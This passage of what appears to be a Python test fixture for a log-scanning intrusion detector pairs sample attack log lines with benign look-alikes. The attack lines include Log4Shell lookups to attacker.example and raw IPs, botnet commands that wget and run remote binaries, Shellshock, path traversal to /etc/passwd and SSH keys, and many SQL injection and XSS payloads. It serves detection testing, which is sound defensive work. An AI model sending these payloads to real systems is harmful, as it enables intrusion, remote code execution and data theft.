        _H + "kernel: [86400.684821] SuSE-FW-ILLEGAL-TARGET IN=eth0 OUT= SRC=61.110.46.148"
        " DST=10.0.247.125 LEN=414 TOS=0x00 PREC=0x00 TTL=77 ID=38446 PROTO=UDP SPT=6537"
        " DPT=1434 LEN=394",
    ], []),
    "web Code Red/Nimda": ((0x7010,), [
        _WEB + '/scripts/root.exe?/c+dir HTTP/1.0" 404 1024 "-" "-"',
        _WEB + '/default.ida?NNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801 HTTP/1.0" 404 1024',
        _HAPROXY % 404 + '/scripts/root.exe?/c+dir HTTP/1.0"',
    ], [
        _OK + '/downloads/cmd.exe-guide.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
    ]),
    "web exploit": ((0x7010,), [
        _WEB + '/?XDEBUG_SESSION_START=phpstorm HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/struts2-showcase/$%7Ba=(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{'
        '\'id\'})).start()%7D/actionChain1.action HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/tmui/locallb/workspace/tmshCmd.jsp HTTP/1.1" 404 196 "-" "python-requests/2.31.0"',
        _WEB + '/injection/%0d%0aSet-Cookie:x=1 HTTP/1.1" 404 271 "-" "Mozilla/5.0"',
        _WEB + '//php-my-admin/config/config.inc.php?p=phpinfo(); HTTP/1.1" 404 345 "-" '
        '"Mozilla/4.0"',
        # Log4Shell: in the request, a header; obfuscated, encoded.
        _WEB + '/?x=%24%7Bjndi%3Adns%3A%2F%2F60eca300c6.attacker.example%2Fa%7D HTTP/1.1" 200 1'
        ' "-" "M"',
        _WEB + '/ HTTP/1.1" 200 1 "-" "${jndi:ldap://82.212.123.41:1389/a}"',
        _WEB + '/ HTTP/1.1" 404 1 "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://1.2.3.4/x}" "M"',
        # Spring4Shell, PHP-CGI, PHPUnit, Struts' OGNL, ThinkPHP, GPON,
        # a router's command injection.
        _WEB + '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'
        ' HTTP/1.1" 200 1 "-" "M"',
        _WEB + '/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input'
        ' HTTP/1.1" 404 1 "-" "M"',
        _WEB + '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 1 "-" "M"',
        _WEB + '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%29%7D/ HTTP/1.1"'
        ' 400 1 "-" "M"',
        _WEB + '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array'
        '&vars[0]=md5 HTTP/1.1" 404 1 "-" "M"',
        _WEB + '/GponForm/diag_Form?images/ HTTP/1.1" 404 1 "-" "Hello, World"',
        _WEB + '/shell?cd+/tmp;rm+-rf+*;wget+http://87.165.229.60/jaws;sh+/tmp/jaws HTTP/1.1"'
        ' 404 1 "-" "Hello, world"',
        _HAPROXY % 200 + '/?x=${jndi:ldap://82.212.123.41:1389/a} HTTP/1.1"',
        _HAPROXY6 % 404 + '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1"',
        # PHP-CGI's argument injection behind a soft hyphen (CVE-2024-4577),
        # F5 BIG-IP's iControl REST (CVE-2022-1388), Laravel Ignition
        # (CVE-2021-3129), TP-Link Archer's locale API (CVE-2023-1389),
        # Exchange's ProxyShell (CVE-2021-34473), WP File Manager
        # (CVE-2020-25213), vBulletin's widget_php (CVE-2019-16759),
        # Drupalgeddon 2 (CVE-2018-7600).
        _WEB + '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp'
        '://input HTTP/1.1" 404 1 "-" "M"',
        _WEB + '/mgmt/tm/util/bash HTTP/1.1" 401 1 "-" "python-requests/2.28.1"',
        _WEB + '/_ignition/execute-solution HTTP/1.1" 405 1 "-" "M"',
        _WEB + '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wge'
        't+-O-+http%3A%2F%2F1.2.3.4%2Ft%7Csh%60) HTTP/1.1" 404 1 "-" "Go-http-client/1.1"',
        _WEB + '/autodiscover/autodiscover.json?@zdi/PowerShell?serialization=Key&X-Rps-CAT=x'
        '&Email=autodiscover/autodiscover.json%3F@zdi HTTP/1.1" 302 1 "-" "M"',
        _WEB + '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php HTTP/1.1"'
        ' 404 1 "-" "M"',
        _WEB + '/index.php?routestring=ajax/render/widget_php&widgetConfig[code]=echo+md5(1);'
        ' HTTP/1.1" 200 1 "-" "M"',
        _WEB + '/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format'
        '=drupal_ajax&mail[%23post_render][]=exec&mail[%23type]=markup&mail[%23markup]=id'
        ' HTTP/1.1" 200 1 "-" "M"',
        _HAPROXY % 404 + '/_ignition/execute-solution HTTP/1.1"',
        # AWStats' configdir (CVE-2005-0116), Apache Commons Text's lookups
        # (Text4Shell, CVE-2022-42889), FrontPage's fp30reg.dll, Cacti's
        # remote_agent.php (CVE-2022-46169).
        _WEB + '/cgi-bin/awstats.pl?configdir=|echo;echo%20YYY;cd%20%2ftmp%3bwget%20x|'
        ' HTTP/1.0" 200 291 "-" "-"',
        _WEB + '/?search=%24%7Bdns%3Aaddress%7Cwww.google.com%7D HTTP/1.1" 404 492 "-" "M"',
        _WEB + '/?search=%24%7Burl%3AUTF-8%3Ahttps%3A%2F%2Fwww.google.com%2F%7D HTTP/1.1" 404'
        ' 492 "-" "M"',
        _WEB + '/?q=${url:UTF-8:http://61.2.3.4/x} HTTP/1.1" 404 492 "-" "M"',
        _WEB + '/_vti_bin/_vti_aut/fp30reg.dll HTTP/1.1" 406 288 "-" "-"',
        _WEB + '/remote_agent.php?action=polldata&poller_id=1&host_id=1&local_data_ids[]=1'
        ' HTTP/1.1" 404 492 "-" "M"',
        # Botnets' downloads made executable, a PHP shell used.
        _WEB + '/shell?cd+/tmp;rm+-rf+*;wget+185.245.96.227/bins/arm;chmod+777+/tmp/arm;sh+/tmp/arm'
        ' HTTP/1.1" 400 226 "-" "-"',
        _WEB + '/dvwa/hackable/uploads/phpshell.php?cmd=dir HTTP/1.1" 200 419 "-" "Mozilla/5.0"',
    ], [
        _OK + '/docs/java.lang.String.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/docs/phpinfo-guide.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/tmui/login.jsp HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _HAPROXY_OK % 200 + '/docs/jndi-lookup-guide.html HTTP/1.1"',
        _OK + '/docs/jndi-lookup-guide.html HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
        _OK + '/tpl?x=%24%7Bname%7D&y=${user} HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
        _OK + '/blog/php-cgi-allow_url_include-explained HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
        _OK + '/search?q=wget+http+download+tutorial HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
        _OK + '/awstats/awstats.pl?config=www.example.org HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
        _OK + '/docs/dns:lookup-guide?url=x HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
        # The same products used as they are: Exchange's autodiscover,
        # LuCI, a soft hyphen in a word, Drupal's forms.
        _OK + '/autodiscover/autodiscover.json?Email=alice%40example.org&Protocol=ActiveSync'
        ' HTTP/1.1" 200 1 "-" "Microsoft Office/16.0"',
        _OK + '/cgi-bin/luci/admin/status/overview HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
        _OK + '/search?q=co%ADoperate HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
        _OK + '/node/12?destination=admin/content&form_id=post_render_settings HTTP/1.1" 200 1'
        ' "-" "Mozilla/5.0"',
    ]),
    # An exploit calling back to a scanner's out-of-band server (nuclei's
    # interactsh, Burp Collaborator): the exploit and the scanner.
    "web exploit with a scanner's callback": ((0x7010, 0x7014), [
        _WEB + '/?x=%24%7Bjndi%3Adns%3A%2F%2F60eca300c6.oast.fun%2Fa%7D HTTP/1.1" 200 1 "-" "M"',
        _WEB + '/ HTTP/1.1" 200 1 "-" "${jndi:ldap://ct4vqm0o.interact.sh/a}"',
    ], []),
    "web Shellshock": ((0x7010,), [
        _WEB + '/cgi-bin/status HTTP/1.1" 200 1024 "-" "() { :; }; /bin/bash -c \\"wget'
        ' http://61.2.3.4/x\\""',
        _WEB + '/ HTTP/1.1" 200 1024 "() { ignored; }; echo; /bin/id" "Mozilla/5.0"',
        "[Thu Sep 25 09:27:18.813902 2014] [cgi:error] [pid 16860] [client 61.2.3.4:59635]"
        " AH01215: /bin/bash: warning: HTTP_TEST: ignoring function definition attempt",
        "[Thu Sep 25 09:29:56.141832 2014] [cgi:error] [pid 16864] [client 61.2.3.4:41273]"
        " AH01215: /bin/bash: error importing function definition for `HTTP_TEST'",
    ], [
        _OK + '/docs/bash-functions.html?q=() HTTP/1.1" 200 1024 "-" "Mozilla/5.0 (X11)"',
    ]),
    "web traversal": ((0x7011,), [
        # One step that begins a parameter's value, Tomcat's ..;/, a scanner's
        # traversal in its referrer (corpus 9a).
        _WEB + '/download.php?file=../config.php HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/app/..;/manager/html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/ HTTP/1.1" 200 512 "https://www.example.com/download?file=../../../../etc/shadow"'
        ' "Mozilla/5.0"',
        _WEB + '/view.php?template=..%u2216..%u2216..%u2216etc%u2216passwd HTTP/1.1" 200 1024 "-" '
        '"Mozilla/5.0"',
        _WEB + '/index.php?file=/etc/hosts HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/get?code=cat+%2Fetc%2Fsubuid HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/get?test=/sys/class HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/x.php?f=/proc/self/status HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/index.php?file=c:%5CSystem32%5CInetsrv%5Cmetabase.xml HTTP/1.1" 200 1024 "-" '
        '"Mozilla/5.0"',
        _WEB + '/index.php?file=C:/inetpub/wwwroot/global.asa HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/get?foo=arg&path_comp=.ssh/id_rsa HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..'
        '&name=%2bCSCOE%2b/portal_inc.lua HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/lang.php?lang=/%25%5c..%25%5c..%25%5c..winnt/desktop.ini HTTP/1.1" 200 1024 "-" '
        '"Mozilla/5.0"',
        _WEB + '/cgi-bin/view.cgi?file=../../../../etc/passwd HTTP/1.1" 400 1024 "-" "curl/7.1"',
        _WEB + '/index.php?page=%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1" 200 1024 "-" "M"',
        "[Mon Nov 22 00:00:15 2004] [error] [client 195.237.238.120] File does not exist:"
        " /srv/www/htdocs/../../etc/passwd",
        # Forwarded through syslog.
        _SYSLOG_WEB + '/index.php?page=%2E%2E%2F%2E%2E%2Fetc%2Fpasswd HTTP/1.0" 404 162 "-"'
        ' "Mozilla/5.0"',
        "<190>" + _SYSLOG_WEB + '/show.php?file=/etc/passwd HTTP/1.1" 200 5 "-" "-"',
        # nginx's error log: the password file looked for under the root.
        _NGINX + 'open() "/var/www/html/etc/passwd" failed (2: No such file or directory)'
        ', client: 61.2.3.4, server: _, request: "GET /static/../../etc/passwd HTTP/1.1"',
        _HAPROXY % 400 + '/cgi-bin/view.cgi?file=../../../../etc/passwd HTTP/1.1"',
        _HAPROXY6 % 200 + '/index.php?page=%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1"',
        # A client gone before the response (status -1), a line cut at
        # HAProxy's length limit (no closing quote).
        # nginx escapes a backslash (\\x5C).
        _SYSLOG_WEB + '/static?file=C:\\x5CWindows\\x5Cwin.ini HTTP/1.1" 500 604 "-" "M"',
        _HAPROXY % -1 + '/cgi-bin/x?f=../../../../etc/passwd HTTP/1.1"',
        _HAPROXY % 200 + '/cgi-bin/x?f=../../../../etc/passwd&pad=aaaaaaaaaaaaaaaa',
        # CVE-2021-42013: the dots encoded twice with a percent.
    ], [
        # One ../ in a path: a page's relative link as a crawler sends it.
        _OK + '/docs/guide/../images/fig1.png HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/ HTTP/1.1" 200 512 "https://www.example.com/docs/guide/../index.html" '
        '"Mozilla/5.0"',
        _OK + '/etc/styles.css HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/account?next=/account/settings HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/x?ver=1..2 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/news?tail=/sports HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/archive?path=/2024/etc HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _HAPROXY_OK % 200 + '/docs/etc-passwd-format.html HTTP/1.1"',
        # A client that sent no request before HAProxy's timeout.
        _HAPROXY_OK % 408 + '<BADREQ>"',
        _OK + '/docs/etc-passwd-format.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _SYSLOG_OK + '/docs/etc-passwd-format.html HTTP/1.1" 200 512 "-" "curl/8.0"',
        _H + "sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/cat"
        " /etc/passwd",
        # nginx's error log: the words in the referrer, not in nginx's message.
        _NGINX + 'open() "/usr/share/nginx/html/favicon.ico" failed (2: No such file or'
        ' directory), client: 10.1.2.3, server: _, request: "GET /favicon.ico HTTP/1.1",'
        ' referrer: "https://example.org/docs/../../etc/passwd-format"',
    ]),
    # A malformed request that is a traversal too: both IDs.
    "web traversal in a malformed request": ((0x7011, 0x7016), [
        "[Mon Nov 22 00:00:15 2004] [error] [client 195.237.238.120] Invalid URI in request GET"
        " /../../etc/passwd HTTP/1.1",
        "[Sat Mar 15 16:04:06.105212 2010] [core:error] [pid 17408] [client 61.2.3.4:55280]"
        " AH00126: Invalid URI in request GET /static/../../../a/../../../../etc/passwd"
        " HTTP/1.1",
        # CVE-2021-42013's escapes of escapes: Apache answers 400 (a bad escape).
        _WEB + '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1" 400 226 "-" "-"',
    ], []),
    # An XSS as a request's first word: a malformed request too (answered 400).
    "web XSS in a malformed request": ((0x7013, 0x7016), [
        _WEB[:-4] + '<SCRIPT>NXSSTEST</SCRIPT> / HTTP/1.1" 400 3386 "-" "-"',
    ], []),
    "web SQL injection": ((0x7012,), [
        # The independent generator's: MySQL's version comments, encoded twice.
        _WEB + '/product.php?id=1/*!50000UNION*//*!50000SELECT*/1,2,3 HTTP/1.1" 200 1024 "-" '
        '"Mozilla/5.0"',
        _WEB + '/category.php?cat=1/%2A%2150000UNION%2A//%2A%2150000SELECT%2A/1%2C2%2C3 HTTP/1.1" '
        '200 1024 "-" "Mozilla/5.0"',
        _WEB + '/search?q=1%2527%253B%2520DROP%2520TABLE%2520users%253B%2520-- HTTP/1.1" 200 1024 '
        '"-" "Mozilla/5.0"',
        _WEB + '/login.php?user=1%2529%2520AND%25201=CONVERT%2528int%252C%2528SELECT%2520%2540%254'
        '0version%2529%2529--&pass=x HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        # Round eleven (OWASP CRS's tests, SecLists, libinjection): a quoted string
        # compared after OR without a quote before it, the same word both sides,
        # numbers compared, HAVING, IS NULL, UNION SELECT at the end, keywords
        # split by comments, T-SQL's DECLARE/EXEC, statements after a semicolon,
        # sub-selects of TOP or a function, ) FROM t WHERE, Oracle's UTL_HTTP,
        # MySQL's EXTRACTVALUE, T-SQL's --sp_password.
        _WEB + '/page.php?pid=12+or%20\'a\'=\'a HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/item.php?id=a\'%20or%20\'\'=\' HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/page.php?pid=%20or%20%27whatever%27%20in%20%28%27whatever%27%29 HTTP/1.1" 200 '
        '1024 "-" "Mozilla/5.0"',
        _WEB + '/cart.asp?prodid=1+or+\'text\'+>+\'t\' HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/user/profile?uid=or%201=1 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/page.php?pid=-1%20or%20a%3Da-- HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/x.php?id=12+or+(EXISTS) HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/x.php?id=12%20or+2+%3E+1 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/x.php?uid=%20or%202+between%201+and+3 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/x.php?id=12%20or%201%20--%27 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/search.php?q=1%20having%201%3D1-- HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/page.php?pid=x%27%20AND%20email%20IS%20NULL%3B%20-- HTTP/1.1" 200 1024 "-" '
        '"Mozilla/5.0"',
        _WEB + '/page.php?pid=-1%20UNION%20ALL%20SELECT HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/search.php?q=1%5Cx27UNION%20SELECT HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/cart.asp?prodid=uni/**/on+sel/**/ect HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/page.php?pid=declare%20%40s%20varchar%20%28200%29%20select%20%40s%20%3D%200x73 '
        'HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/item.php?id=1;exec(@s) HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/products.php?id=1;SELECT%20* HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/catalog/p.php?id=a@var+select+@var+as+var+into+temp+end+--'
        ' HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/cart.asp?prodid=1\'+(select+top+1 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/news/view.php?nid=1%20AND%20%28select%20DCount%28last%28username%29 HTTP/1.1" '
        '200 1024 "-" "Mozilla/5.0"',
        _WEB + '/page.php?pid=1%29%20from%20users%20where%20username%3D%27ad1min%27%29 HTTP/1.1" '
        '200 1024 "-" "Mozilla/5.0"',
        _WEB + '/item.php?id=%27%7C%7CUTL_HTTP.REQUEST HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/x.php?id=and%20extractvalue%281%2C%20version%28%29%29%20--%20- HTTP/1.1" 200 '
        '1024 "-" "Mozilla/5.0"',
        _WEB + '/page.php?pid=-1--sp_password HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1"'
        ' 200 1024 "-" "Mozilla/5.0"',
        _WEB + "/login.php?user=admin%27%20or%20%271%27=%271 HTTP/1.1\" 200 1024 \"-\" \"M\"",
        _WEB + '/item.php?id=1+AND+SLEEP(5) HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/item.php?id=-1+/*!50000union*/+select+1,@@version,3 HTTP/1.1" 200 1 "-" "M"',
        _WEB + '/item.php?id=1+ORDER+BY+10-- HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        # Not encoded: the request as a tool sent it, with its spaces.
        _WEB + "/login.php?user=admin' OR '1'='1 HTTP/1.1\" 200 1024 \"-\" \"Mozilla/5.0\"",
        _WEB + '/item.php?id=1 UNION SELECT null,version()-- HTTP/1.1" 200 1024 "-" "M"',
        _WEB + '/page?id=1; DROP TABLE users HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + "/index.php?id=1' AND SLEEP(5)-- - HTTP/1.0\" 200 1024 \"-\" \"M\"",
        _WEB + '/index.php?id=1 AND 1=1" 200 1024 "-" "Mozilla/5.0"',
        # Encoded twice (%2527 ', %2520 a space, %253D =), a double quote.
        _WEB + '/item.php?id=1%2527%2520OR%25201%253D1 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/item.php?id=1%2520or%25202%253d2 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/item.php?id=1%22%20or%20%221%22=%221 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _SYSLOG_WEB + "/login.php?user=admin%27%20or%20%271%27=%271 HTTP/1.1\" 200 5 \"-\" \"M\"",
        # Comments half encoded; blind injections: CASE WHEN, a subquery.
        _WEB + '/post?id=1%2F**%2FUNION%2F**%2FSELECT%2F**%2F1%2C2 HTTP/1.1" 200 1 "-" "M"',
        _WEB + '/item.php?id=1%20AND%20(SELECT%20CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200'
        '%20END) HTTP/1.1" 200 1024 "-" "M"',
        _WEB + '/item.php?id=1+AND+1=CASE+WHEN+1=1+THEN+1+ELSE+0+END HTTP/1.1" 200 1 "-" "M"',
        _WEB + '/item.php?id=1%20AND%20ASCII(SUBSTRING((SELECT%20password%20FROM%20users'
        '%20LIMIT%201),1,1))>64 HTTP/1.1" 200 1024 "-" "M"',
        _HAPROXY % 200 + "/login.php?user=admin%27%20or%20%271%27=%271 HTTP/1.1\"",
        # Boolean-blind pairs, a tautology in parentheses, comments for
        # spaces, HAVING, a string concatenated with a subquery.
        _WEB + '/news.php?id=1%20AND%201=2 HTTP/1.1" 200 12841 "-" "python-requests/2.28.1"',
        _WEB + '/category.php?cid=7)%20OR%20(1=1 HTTP/1.1" 302 591 "-" "Mozilla/5.0"',
        _WEB + "/cart.php?item=3'/**/OR/**/1=1-- HTTP/1.1\" 403 600 \"-\" \"Mozilla/5.0\"",
        _WEB + '/page.asp?id=1%27%20having%201=1-- HTTP/1.1" 403 269 "-" "Mozilla/5.0"',
        _WEB + '/?p=1%27%7C%7C(SELECT%20version())%7C%7C%27 HTTP/1.1" 200 3 "-" "Mozilla/5.0"',
        _WEB + '/x?id=1/**/and/**/1=2 HTTP/1.1" 200 3 "-" "Mozilla/5.0"',
        _WEB + '/x?id=1%09and%091=2 HTTP/1.1" 200 3 "-" "Mozilla/5.0"',
        _WEB + '/x?p=1%27%20||%20%27a HTTP/1.1" 200 3 "-" "Mozilla/5.0"',
        _WEB + '/page.asp?category=1 HTTP/1.1" 403 523 "-" "Mozilla/5.01 OR SLEEP(5)#"',
        _WEB + '/news.php HTTP/1.1" 400 902 "https://shop.example.org/news.php?uid=1\' AND'
        ' (SELECT 7781 FROM (SELECT(SLEEP(5)))hKzJ)-- rLmo" "Mozilla/5.0"',
        _HAPROXY6 % 200 + '/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--'
        ' HTTP/1.1"',
        # A number's value ended by a quote: by hand, and sqlmap's heuristic test.
        _WEB + "/item.php?id=1' HTTP/1.1\" 500 12 \"-\" \"curl/8.0\"",
        _WEB + '/item.php?cat=2&id=12%27&sort=asc HTTP/1.1" 500 12 "-" "Mozilla/5.0"',
        _WEB + '/item.php?id=1%27%29%22%28%28%2C%28%29%27 HTTP/1.1" 500 12 "-" "Mozilla/5.0"',
        _HAPROXY6 % 500 + '/item.php?id=7%2527 HTTP/1.1"',
    ], [
        _OK + "/search?id=1&q=kids' HTTP/1.1\" 200 1024 \"-\" \"Mozilla/5.0\"",
        _OK + '/item.php?id=1.5&v=2,3&w=(4) HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/q?name=o%27brien&h=5%2711 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/docs/mysql/version-comments.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=convert+int+to+string HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=song+or+\'hit\'+lyrics HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=black+or+white+shoes HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=color+or+colour HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=size+10+or+12 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/blog/2024/union-select-meeting HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/list?sort=name;select=all HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=declare+independence HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/docs/select-top-10-queries.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=one+having+fun HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/q?name=o%27brien+and+sons HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _HAPROXY_OK % 200 + '/search?q=select+from+union+station HTTP/1.1"',
        _OK + '/search?q=rock+and+roll&page=2 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/calc?q=1+and+2=3apples HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=having+fun+in+2024 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/docs/c-operators?q=a||b HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/quotes?q=it%27s%7Cfine HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/blog/(or)/(1-2) HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=one+and+2=3 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=what+having+2=2+means HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + "/docs?q=a'||b HTTP/1.1\" 200 1024 \"-\" \"Mozilla/5.0\"",
        _OK + '/search?q=select+from+union+station HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=union station select menu HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + "/a?q=it's or isn't so HTTP/1.1\" 200 1024 \"-\" \"Mozilla/5.0\"",
        _OK + '/wiki/Drop table and chairs HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/books?author=O%27Reilly+and+sons HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/list?sort=order+by+date HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/wiki/SQL_injection HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=%22cats%22+or+%22dogs%22 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=rock%2520or%2520roll HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/books?q=O%2527Reilly%2520and%2520sons HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _SYSLOG_OK + '/search?q=select+from+union+station HTTP/1.1" 200 512 "-" "curl/8.0"',
        _OK + '/search?q=just+in+case+when+travelling HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/menu/(select)+from+the+list HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=what+to+do+in+case+when+2+cars+collide HTTP/1.1" 200 1 "-" "M"',
        _OK + '/search?q=case+when+rain(forecast) HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/faq?q=(select+one+from+the+list) HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/blog/2024/11/comments%2F**%2Fare%2Fback HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
    ]),
    "web XSS": ((0x7013,), [
        _WEB + '/comment.php?name=javascript%253Aalert%25281%2529 HTTP/1.1" 200 1024 "-" '
        '"Mozilla/5.0"',
        _WEB + '/error.jsp?msg=<a+href=javascript&colon;alert&lpar;1&rpar;>X</a>'
        ' HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/comment?text=%22%3E%3Ciframe%20src=%22http://x.example/%22%3E HTTP/1.1" 200 1024 '
        '"-" "Mozilla/5.0"',
        _WEB + '/guestbook.php?name=%3C%73%63%72%69%70%74%3E+%64'
        ' HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/get/char_test?mime=text/xml&body=%22onzoom%3D HTTP/1.1" 200 1024 "-" '
        '"Mozilla/5.0"',
        _WEB + '/search?q=%3Csvg/onload=alert(1)%3E HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1" 200 1024'
        ' "-" "Mozilla/5.0"',
        _WEB + '/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E HTTP/1.1" 200 1024 "-" "M"',
        _WEB + '/search?q=\\"><script>alert(1)</script> HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/search?q=<img src=x onerror=alert(1)> HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _WEB + '/c?t=<svg onload=prompt(1)> HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
